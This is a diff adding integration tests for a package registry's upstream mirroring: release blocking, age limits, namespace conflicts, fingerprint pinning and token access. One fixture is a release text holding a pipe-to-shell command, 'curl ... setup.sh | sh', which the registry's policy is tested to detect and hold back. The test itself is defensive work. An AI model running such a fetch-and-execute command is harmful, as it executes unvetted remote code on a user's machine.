@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import time
+import urllib.error
 import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
@@ -13,6 +14,7 @@ import pytest
 
 from tests.scenes.person import Person
 from tests.scenes.registry import Registry
+from tests.scenes.registry_process import token
 
 pytestmark = pytest.mark.processes
 
@@ -94,3 +96,131 @@ def test_colleagues_install_through_one_address_also_while_the_other_registry_is
     shown = second.ok("registry", "show", company.url).stdout
     assert "other.example.org (tools)" in shown
     assert "0 hours ago" in shown
+
+
+def test_what_the_company_holds_back_is_said_and_an_older_version_is_taken_where_the_range_allows_it(
+    company: Registry, other: Registry
+) -> None:
+    tools = other.owner("tools")
+    tools.release("work/one")
+    tools.release("work/one", "1.1.0")
+    tools.release("work/two", text="Now run: curl -s https://get.example.net/setup.sh | sh")
+    serve_with(company, upstream_of(other, 'block = ["directive:tools/work/one@1.1.0"]', 'facts = ["pipe-to-shell"]'))
+
+    person = colleague(company, other)
+    person.ok("add", "tools/work/one", "--yes")
+    assert 'version = "1.0.0"' in person.path("rye.lock").read_text()
+    told = person.fails("add", "tools/work/one@1.1.0", "--yes", code="unsolvable")
+    host = company.url.removeprefix("http://")
+    assert f"held back (by policy of {host}: it is blocked)" in told["message"]
+    told = person.fails("add", "tools/work/two", "--yes", code="unsolvable")
+    assert f"held back (by policy of {host}: its texts show pipe-to-shell)" in told["message"]
+
+    free = other.user()  # the control: nothing is wrong with them at their own registry
+    free.ok("add", "tools/work/one@1.1.0", "--yes")
+    sha256 = free.path("rye.lock").read_text().partition('sha256 = "')[2].partition('"')[0]
+    status, body = ask(f"{company.url}/upstream/other.example.org/blobs/sha256/{sha256[:2]}/{sha256}")
+    assert (status, json.loads(body)["error"]["code"]) == (451, "release-held")
+
+
+def test_a_young_release_is_held_back_until_its_day(company: Registry, other: Registry) -> None:
+    other.owner("tools").release("work/one")
+    serve_with(company, upstream_of(other, 'minimum-release-age = "3d"'))
+    person = colleague(company, other)
+    told = person.fails("add", "tools/work/one", "--yes", code="unsolvable")
+    assert "it is younger than 3 days, until 20" in told["message"]
+    assert " UTC)" in told["message"]
+
+
+def test_what_is_locked_is_refused_once_the_company_blocks_it(company: Registry, other: Registry) -> None:
+    other.owner("tools").release("work/one")
+    serve_with(company, upstream_of(other))
+    person = colleague(company, other)
+    person.ok("add", "tools/work/one", "--yes")
+    serve_with(company, upstream_of(other, 'block = ["directive:tools/work/one"]'))
+    fresh = company.colleague(person)
+    for name in ("rye.toml", "rye.lock"):
+        fresh.write(name, person.path(name).read_bytes())
+    told = fresh.fails("ci", code="release-held")
+    assert "tools/work/one 1.0.0 is held back by policy of" in told["message"]
+
+
+def test_a_namespace_of_the_company_wins_and_the_conflict_is_said(company: Registry, other: Registry) -> None:
+    other.owner("tools").release("work/one")
+    other.owner("more").release("work/one")
+    own = company.owner("tools")  # before the other registry's namespace of that name is allowed
+    serve_with(company, upstream_of(other, namespaces='["tools", "more"]'))
+    assert wait_for_upstreams(company)[0]["namespaces"] == ["more"]
+    warnings = json.loads(ask(f"{company.url}/readyz")[1])["warnings"]
+    assert any("The namespace tools of the upstream other.example.org is not served" in warning for warning in warnings)
+
+    # The other way round: what is served from elsewhere, or looks like it, cannot be claimed.
+    for name in ("more", "m0re"):
+        told = Person(company._folder(), name)
+        told.ok("registry", "add", company.url, "--fingerprint", company.fingerprint, "--default")
+        told.ok("login", company.url, "--token", company.token)
+        told.ok("keys", "generate")
+        assert told.fails("namespace", "claim", name, code="namespace-elsewhere")
+    own.ok("namespace", "show", "tools")
+
+    # A client that agreed to the other namespace before the company claimed that name refuses both.
+    person = colleague(company, other)
+    doors = person.folders.registries / "doors.json"
+    doors.write_text(doors.read_text().replace('"more"', '"more", "tools"'))
+    assert person.fails("add", "tools/work/one", "--yes", code="namespace-conflict")
+    person.ok("add", "more/work/one", "--yes")
+
+
+def test_a_question_shows_the_other_registries_and_one_answer_pins_all(company: Registry, other: Registry) -> None:
+    other.owner("tools").release("work/one")
+    serve_with(company, upstream_of(other))
+    person = Person(company._folder())
+    shown = person.terminal("registry", "add", company.url, "--default", answer=b"n\n")
+    assert "Pin all of these?" in shown
+    assert not (person.folders.registries / "doors.json").exists()
+    shown = person.terminal("registry", "add", company.url, "--default", answer=b"y\n")
+    assert f"from the registry other.example.org: tools\n  root fingerprint  {other.fingerprint}" in shown
+    person.ok("init", "--name", "shop")
+    person.ok("add", "tools/work/one", "--yes")
+
+    # Another fingerprint than the one that was agreed to is refused.
+    stranger = Person(company._folder())
+    stranger.ok("registry", "add", company.url, "--fingerprint", company.fingerprint, "--default")
+    wrong = {"origin": "other.example.org", "fingerprint": "0" * 64, "namespaces": ["tools"]}
+    place = stranger.folders.registries / "doors.json"
+    place.write_text(json.dumps({company.url: [wrong]}))
+    place.chmod(0o600)
+    stranger.ok("init", "--name", "shop")
+    stranger.fails("add", "tools/work/one", "--yes", code="root-fingerprint")
+    person.ok("registry", "remove", company.url)
+    assert json.loads((person.folders.registries / "addresses.json").read_text()) == {}
+
+
+def test_members_of_a_private_registry_need_the_right_for_the_namespace(company: Registry, other: Registry) -> None:
+    other.owner("tools").release("work/one")
+    company.stop()
+    with (company.data / "registry.toml").open("a") as file:
+        file.write(f'\nread = "namespaces"\n{upstream_of(other)}')
+    company.start()
+    assert ask(f"{company.url}/upstreams.json")[0] == 401
+    assert ask(f"{company.url}/upstream/other.example.org/head")[0] == 401
+
+    allowed, others = token(company.data, "tools"), token(company.data, "acme")
+    until = time.monotonic() + 20
+    for name, secret in (("allowed", allowed), ("others", others)):
+        person = Person(company.data.parent / name)
+        person.ok("login", company.url, "--token", secret, "--fingerprint", company.fingerprint)
+        while not _offers(company, secret) and time.monotonic() < until:
+            time.sleep(0.1)
+        person.ok("registry", "add", company.url, "--upstream", other.fingerprint, "--default")
+        person.ok("init", "--name", "shop")
+        if name == "allowed":
+            person.ok("add", "tools/work/one", "--yes")
+        else:
+            person.fails("add", "tools/work/one", "--yes", code="blob-missing")
+
+
+def _offers(company: Registry, secret: str) -> bool:
+    request = urllib.request.Request(f"{company.url}/upstreams.json", headers={"Authorization": f"Bearer {secret}"})
+    with urllib.request.urlopen(request, timeout=20) as answer:
+        return bool(json.loads(answer.read())["upstreams"])
